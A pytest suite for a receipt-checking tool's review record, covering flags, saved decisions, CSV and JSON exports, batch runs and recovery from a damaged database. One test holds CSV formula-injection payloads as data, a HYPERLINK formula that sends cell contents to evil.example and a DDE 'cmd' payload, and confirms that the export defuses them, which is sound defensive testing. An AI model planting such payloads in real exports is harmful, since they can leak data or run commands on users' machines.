"""The staff record: flags, verdicts, decisions that survive a restart, exports, batch."""

from __future__ import annotations

import csv
import datetime as dt
import io
import json
import os
import shutil
import zipfile
from pathlib import Path

import pytest
from bundle_helpers import D, bundle_file, other_photo
from PIL import Image

from receipt_assistant.core import review
from receipt_assistant.core.bundle import Correction, Declared
from receipt_assistant.core.verify import verify_bundle


def record(store: review.Store, path: Path) -> review.Entry:
    return store.record(path, verify_bundle(path, keep_members=True))


@pytest.fixture
def store(tmp_path: Path) -> review.Store:
    s = review.Store(tmp_path / "review.sqlite3")
    yield s  # type: ignore[misc]
    s.close()


def ids(entry: review.Entry) -> set[str]:
    return {f.id for f in entry.flags}


def test_a_clean_bundle_is_green_and_starts_unchecked(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "a"))
    assert e.flags == [] and e.verdict == "green" and e.decision == "unchecked"
    assert e.value("amount") == 5000 and e.value("store") == "ローソン 新宿店" and e.value("intact") is True


@pytest.mark.parametrize(
    ("kw", "flag", "verdict"),
    [
        pytest.param({"declared": Declared("store", 6000, D(2026, 11, 20))}, "amount_differs", "amber", id="amount"),
        pytest.param({"declared": Declared("store", 5000, D(2026, 11, 21))}, "date_differs", "amber", id="date"),
        pytest.param({"gift": False}, "no_gift_line", "red", id="no-gift-line"),
        pytest.param({"corrections": [Correction("amount", 5000, 6000, "2026-11-28T10:00:00+09:00")]},
                     "corrected", "amber", id="corrected"),
    ],
)
def test_flags_say_why(tmp_path: Path, store: review.Store, kw: dict, flag: str, verdict: str) -> None:
    e = record(store, bundle_file(tmp_path, "b", **kw))
    assert flag in ids(e) and e.verdict == verdict
    f = next(f for f in e.flags if f.id == flag)
    assert f.message.ja and f.message.en


def test_a_tampered_bundle_is_red_with_the_reason(tmp_path: Path, store: review.Store) -> None:
    path = bundle_file(tmp_path, "c")
    with zipfile.ZipFile(path) as zf:
        members = [(i.filename, zf.read(i)) for i in zf.infolist()]
    with zipfile.ZipFile(path, "w") as zf:
        for name, data in members:
            zf.writestr(name, data + b"x" if name.startswith("originals/") else data)
    e = record(store, path)
    assert "not_intact" in ids(e) and e.verdict == "red"
    assert "changed after" in next(f for f in e.flags if f.id == "not_intact").message.en


def test_the_same_receipt_twice_is_flagged_across_folders(tmp_path: Path, store: review.Store) -> None:
    days = [tmp_path / f"day{n}" for n in range(4)]
    for day in days:
        day.mkdir()
    record(store, bundle_file(days[0], "d", order="503-1234567-1234567"))
    # the same photo again, another day, another folder
    again = record(store, bundle_file(days[1], "d", photo=days[0] / "d.jpg"))
    assert "same_image" in ids(again) and again.verdict == "red"
    other = record(store, bundle_file(days[2], "x", photo=other_photo(days[2] / "x.jpg", 5), order="503-1234567-1234567"))
    assert "same_order" in ids(other)
    unrelated = record(store, bundle_file(days[3], "y", photo=other_photo(days[3] / "y.jpg", 9)))
    assert not {"same_image", "same_order"} & ids(unrelated)


def test_editing_software_in_the_photo_is_flagged(tmp_path: Path, store: review.Store) -> None:
    photo = tmp_path / "edited.jpg"
    exif = Image.Exif()
    exif[0x0131] = "Adobe Photoshop 25.0 (Windows)"
    Image.new("RGB", (40, 30), "white").save(photo, exif=exif)
    e = record(store, bundle_file(tmp_path, "e", photo=photo))
    assert "edited_photo" in ids(e) and "Photoshop" in next(f for f in e.flags if f.id == "edited_photo").message.en
    iphone = tmp_path / "iphone.jpg"
    exif[0x0131] = "17.4.1"
    Image.new("RGB", (40, 30), "gray").save(iphone, exif=exif)
    assert "edited_photo" not in ids(record(store, bundle_file(tmp_path, "f", photo=iphone)))


def test_decisions_survive_a_restart_and_bundles_are_never_modified(tmp_path: Path) -> None:
    path = bundle_file(tmp_path, "g")
    before = path.read_bytes()
    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    e = record(s, path)
    s.decide(e.bundle_hash, "approved", "レシート確認済み", "佐藤")
    s.close()
    again = review.Store(db)
    e2 = again.get(e.bundle_hash)
    assert e2 is not None and (e2.decision, e2.note, e2.staff) == ("approved", "レシート確認済み", "佐藤")
    record(again, path)  # seeing it again keeps the decision
    assert again.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    with pytest.raises(ValueError):
        again.decide(e.bundle_hash, "maybe", "", "")
    again.close()
    assert path.read_bytes() == before


def test_csv_opens_in_japanese_excel_and_json_has_the_same_rows(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "h"))
    store.decide(e.bundle_hash, "rejected", "金額が違う、再提出を依頼", "田中")
    out = tmp_path / "record.csv"
    review.export_csv(store.entries(), out)
    raw = out.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    assert list(rows[0]) == list(review.EXPORT_COLUMNS)
    assert rows[0]["name"] == "山田 花子" and rows[0]["note"] == "金額が違う、再提出を依頼"
    assert rows[0]["decision"] == "rejected" and rows[0]["amount"] == "5000"
    review.export_json(store.entries(), tmp_path / "record.json")
    data = json.loads((tmp_path / "record.json").read_text(encoding="utf-8"))
    assert data[0]["staff"] == "田中" and data[0]["verdict"] == "green"


def test_search_finds_by_the_keys_a_bookkeeper_uses(tmp_path: Path, store: review.Store) -> None:
    e = record(store, bundle_file(tmp_path, "i"))
    for text in ("5000", "5,000", "ローソン", "A-123", "山田", "2026-11-20", e.value("fingerprint")):
        assert e.matches(text), text
    assert not e.matches("ファミリーマート")


def test_batch_records_everything_once_and_continues_after_an_interruption(tmp_path: Path,
                                                                          store: review.Store) -> None:
    first = bundle_file(tmp_path, "j")
    inbox = first.parent
    for n in range(200):  # 200 distinct files (a different ZIP comment each), one receipt
        copy = inbox / f"copy-{n:03d}.receipt.zip"
        shutil.copy(first, copy)
        with zipfile.ZipFile(copy, "a") as zf:
            zf.comment = f"copy {n}".encode()
    (inbox / "junk.receipt.zip").write_bytes(os.urandom(500))
    seen: list[tuple[int, int]] = []
    entries = review.batch(inbox, store, jobs=2, progress=lambda d, t, p: seen.append((d, t)))
    assert len(entries) == 202 and seen[-1] == (202, 202)
    junk = next(e for e in entries if e.path.endswith("junk.receipt.zip"))
    assert junk.verdict == "red" and "not_intact" in ids(junk)
    dupes = [e for e in entries if "same_image" in ids(e)]
    assert len(dupes) >= 200
    seen.clear()
    review.batch(inbox, store, jobs=2, progress=lambda d, t, p: seen.append((d, t)))
    assert seen == [(202, 202)]  # nothing left to do


def test_the_store_lists_a_folder_newest_first(tmp_path: Path, store: review.Store) -> None:
    a = bundle_file(tmp_path, "k")
    b = bundle_file(tmp_path, "l", photo=other_photo(tmp_path / "l.jpg", 3))
    os.utime(a, (1_700_000_000, 1_700_000_000))
    record(store, a)
    record(store, b)
    assert [Path(e.path).name for e in store.entries(a.parent)] == [b.name, a.name]
    assert store.entries(tmp_path / "elsewhere") == []
    assert dt.datetime.fromisoformat(store.entries()[0].received_at).tzinfo is not None


def test_review_batch_from_the_command_line(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    from receipt_assistant.cli import main

    good = bundle_file(tmp_path, "m")
    out = tmp_path / "record.csv"
    assert main(["--lang", "en", "review", "--batch", str(good.parent), "--jobs", "1", "--csv", str(out)]) == 0
    assert "1 bundles: Clear 1, Check 0, Problem 0" in capsys.readouterr().out
    (good.parent / "junk.receipt.zip").write_bytes(b"PK not a zip")
    assert main(["--lang", "en", "review", "--batch", str(good.parent), "--json-out", str(tmp_path / "r.json")]) == 1
    printed = capsys.readouterr().out
    assert "junk.receipt.zip: The bundle is damaged or was altered" in printed
    assert len(json.loads((tmp_path / "r.json").read_text(encoding="utf-8"))) == 2
    assert main(["review", "--batch", str(tmp_path / "absent")]) == 2


def test_a_damaged_record_is_a_clear_error(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    db.write_bytes(b"not a database at all" * 100)
    with pytest.raises(ReceiptError) as err:
        review.Store(db)
    assert "damaged" in err.value.message.en and "壊れている" in err.value.message.ja
    assert db.read_bytes().startswith(b"not a database")  # nothing overwritten


def test_a_verdict_another_version_made_is_made_again_and_the_decision_stays(
        tmp_path: Path, store: review.Store, monkeypatch: pytest.MonkeyPatch) -> None:
    path = bundle_file(tmp_path, "v")
    inbox = path.parent
    e = record(store, path)
    store.decide(e.bundle_hash, "approved", "", "佐藤")
    assert (e.app_version, e.rules_version) == (review.__version__, review.RULES_VERSION) and not e.stale
    # A wrong verdict an older build recorded (the app's schema missing: "not a bundle").
    store.db.execute("UPDATE bundles SET verification=?, flags=?, app_version='0.0.9' WHERE hash=?",
                     (json.dumps({"intact": False}), json.dumps([{"id": "not_intact", "severity": "red",
                                                                   "ja": "壊れています", "en": "damaged"}]),
                      e.bundle_hash))
    store.db.commit()
    old = store.get(e.bundle_hash)
    assert old is not None and old.stale and old.verdict == "red" and not store.known(e.bundle_hash)
    entries = review.batch(inbox, store, jobs=1)
    again = next(x for x in entries if x.bundle_hash == e.bundle_hash)
    assert not again.stale and again.verdict == "green" and again.decision == "approved"
    monkeypatch.setattr(review, "RULES_VERSION", review.RULES_VERSION + 1)
    assert store.get(e.bundle_hash).stale  # type: ignore[union-attr]


def test_a_record_from_before_versions_were_kept_opens_and_is_verified_again(tmp_path: Path) -> None:
    import sqlite3

    db = tmp_path / "old.sqlite3"
    con = sqlite3.connect(db)
    con.executescript("""
        CREATE TABLE bundles (hash TEXT PRIMARY KEY, path TEXT NOT NULL, received_at TEXT NOT NULL,
            verification TEXT NOT NULL, flags TEXT NOT NULL, order_number TEXT, image_hashes TEXT NOT NULL,
            seen_at TEXT NOT NULL);
        CREATE TABLE decisions (hash TEXT PRIMARY KEY REFERENCES bundles(hash), decision TEXT NOT NULL,
            note TEXT NOT NULL, staff TEXT NOT NULL, decided_at TEXT NOT NULL);
        INSERT INTO bundles VALUES ('abc', '/x.receipt.zip', '2026-11-01T10:00:00+09:00', '{}', '[]', NULL,
            '[]', '2026-11-01T10:00:00+09:00');
        INSERT INTO decisions VALUES ('abc', 'rejected', '再提出', '田中', '2026-11-01T11:00:00+09:00');
    """)
    con.commit()
    con.close()
    s = review.Store(db)
    e = s.get("abc")
    assert e is not None and e.stale and e.decision == "rejected" and not s.known("abc")
    s.close()


def test_an_error_crosses_from_a_worker_process_whole() -> None:
    import pickle

    from receipt_assistant.core.errors import InstallationError, missing_app_file

    err = pickle.loads(pickle.dumps(missing_app_file("receipt_assistant/core/schema/bundle-1.json")))
    assert isinstance(err, InstallationError) and "入れ直して" in err.text("ja") and "reinstall" in err.text("en")


def test_a_name_written_as_a_formula_stays_text_in_the_staff_csv(tmp_path: Path, store: review.Store) -> None:
    hostile = Declared("store", 5000, D(2026, 11, 20), '=HYPERLINK("http://evil.example/?"&A1,"clickme")',
                       None, "@SUM(1+1)*cmd|' /C calc'!A0")
    e = record(store, bundle_file(tmp_path, "formula", declared=hostile))
    out = tmp_path / "record.csv"
    review.export_csv([e], out)
    # As Excel reads it: every cell's first character decides whether it is a formula.
    (row,) = csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig")))
    assert all(not str(v).startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
    assert row["name"] == "'" + hostile.name
    assert row["reference"] == "'" + hostile.reference and row["amount"] == "5000"
    review.export_json([e], tmp_path / "record.json")  # JSON is data, not a sheet: kept as written
    assert json.loads((tmp_path / "record.json").read_text(encoding="utf-8"))[0]["name"] == hostile.name


def _dir(tmp_path: Path, name: str) -> Path:
    (tmp_path / name).mkdir()
    return tmp_path / name


def test_a_record_staff_may_not_write_opens_to_view_and_refuses_decisions_with_a_sentence(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    from receipt_assistant import cli
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "data" / "review.sqlite3"
    path = bundle_file(tmp_path, "ro")
    s = review.Store(db)
    e = record(s, path)
    s.decide(e.bundle_hash, "approved", "", "佐藤")
    s.close()
    # A file or folder this account may not write (as a shared drive mounted read-only).
    real_access = os.access
    monkeypatch.setattr(review.os, "access", lambda p, mode: False if mode == os.W_OK else real_access(p, mode))
    ro = review.Store(db)
    assert ro.read_only and ro.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    with pytest.raises(ReceiptError) as err:
        ro.decide(e.bundle_hash, "rejected", "", "田中")
    assert "cannot be written" in err.value.message.en and "書き込みできない" in err.value.message.ja
    ro.close()
    monkeypatch.setattr(review, "database_path", lambda: db)
    other = bundle_file(_dir(tmp_path, "more"), "ro2", photo=other_photo(tmp_path / "o.jpg", 3))
    assert cli.main(["--lang", "en", "review", "--batch", str(other.parent)]) != 0
    assert "cannot be written" in capsys.readouterr().err


def test_a_page_overwritten_mid_file_is_a_sentence_not_a_traceback(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    for n in range(30):
        record(s, bundle_file(_dir(tmp_path, f"b{n}"), "x", photo=other_photo(tmp_path / f"{n}.jpg", n)))
    s.db.execute("PRAGMA wal_checkpoint(TRUNCATE)")
    s.close()
    data = bytearray(db.read_bytes())
    page = 4096
    assert len(data) > 3 * page
    data[page:] = os.urandom(len(data) - page)  # every page after the header: the tables' pages
    db.write_bytes(bytes(data))
    with pytest.raises(ReceiptError) as err:
        broken = review.Store(db)
        broken.entries()
    assert "damaged" in err.value.message.en


def test_one_damaged_row_is_left_out_and_the_others_shown(tmp_path: Path, store: review.Store) -> None:
    good = record(store, bundle_file(_dir(tmp_path, "g"), "g"))
    bad = record(store, bundle_file(_dir(tmp_path, "b"), "b", photo=other_photo(tmp_path / "b.jpg", 9)))
    store.db.execute("UPDATE bundles SET verification='{not json' WHERE hash=?", (bad.bundle_hash,))
    store.db.execute("UPDATE bundles SET image_hashes='{' WHERE hash=?", (bad.bundle_hash,))
    store.db.commit()
    assert [e.bundle_hash for e in store.entries()] == [good.bundle_hash]
    assert store.skipped_rows == {bad.bundle_hash}
    record(store, bundle_file(_dir(tmp_path, "n"), "n", photo=other_photo(tmp_path / "n.jpg", 11)))  # still records


@pytest.mark.skipif(__import__("multiprocessing").get_start_method() != "fork",
                    reason="the failure is planted in the parent; spawned workers start clean")
def test_a_bundle_the_checks_fail_on_is_a_finding_and_the_batch_writes_its_csv(
        tmp_path: Path, store: review.Store, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]) -> None:
    good = bundle_file(tmp_path, "fine")
    bad = bundle_file(tmp_path, "trips", photo=other_photo(tmp_path / "t.jpg", 5))
    real = review.verify_for_review

    def trips_on_one(path, **kw):  # type: ignore[no-untyped-def]
        if Path(path) == bad:
            raise OverflowError("cannot convert float infinity to integer")
        return real(path, **kw)

    monkeypatch.setattr(review, "verify_for_review", trips_on_one)
    entries = review.batch(good.parent, store, jobs=2)
    by_name = {Path(e.path).name: e for e in entries}
    assert by_name[good.name].verdict == "green"
    failed = by_name[bad.name]
    assert failed.verdict == "red" and "OverflowError" in json.dumps(failed.verification, ensure_ascii=False)
    out = tmp_path / "record.csv"
    review.export_csv(entries, out)
    assert len(list(csv.DictReader(io.StringIO(out.read_bytes().decode("utf-8-sig"))))) == 2


def test_a_damaged_record_points_to_its_copy_which_holds_the_decisions(tmp_path: Path) -> None:
    from receipt_assistant.core.errors import ReceiptError

    db = tmp_path / "review.sqlite3"
    s = review.Store(db)
    e = record(s, bundle_file(tmp_path, "kept"))
    s.decide(e.bundle_hash, "approved", "確認済み", "佐藤")
    s.close()
    assert s.backup_path.is_file()
    db.write_bytes(b"garbage" * 1000)
    for side in (db.with_name(db.name + "-wal"), db.with_name(db.name + "-shm")):
        side.unlink(missing_ok=True)
    with pytest.raises(ReceiptError) as err:
        review.Store(db)
    assert str(s.backup_path) in err.value.message.en and "rename the copy" in err.value.message.en
    db.unlink()
    s.backup_path.rename(db)  # what the sentence says to do
    restored = review.Store(db)
    assert restored.get(e.bundle_hash).decision == "approved"  # type: ignore[union-attr]
    restored.close()
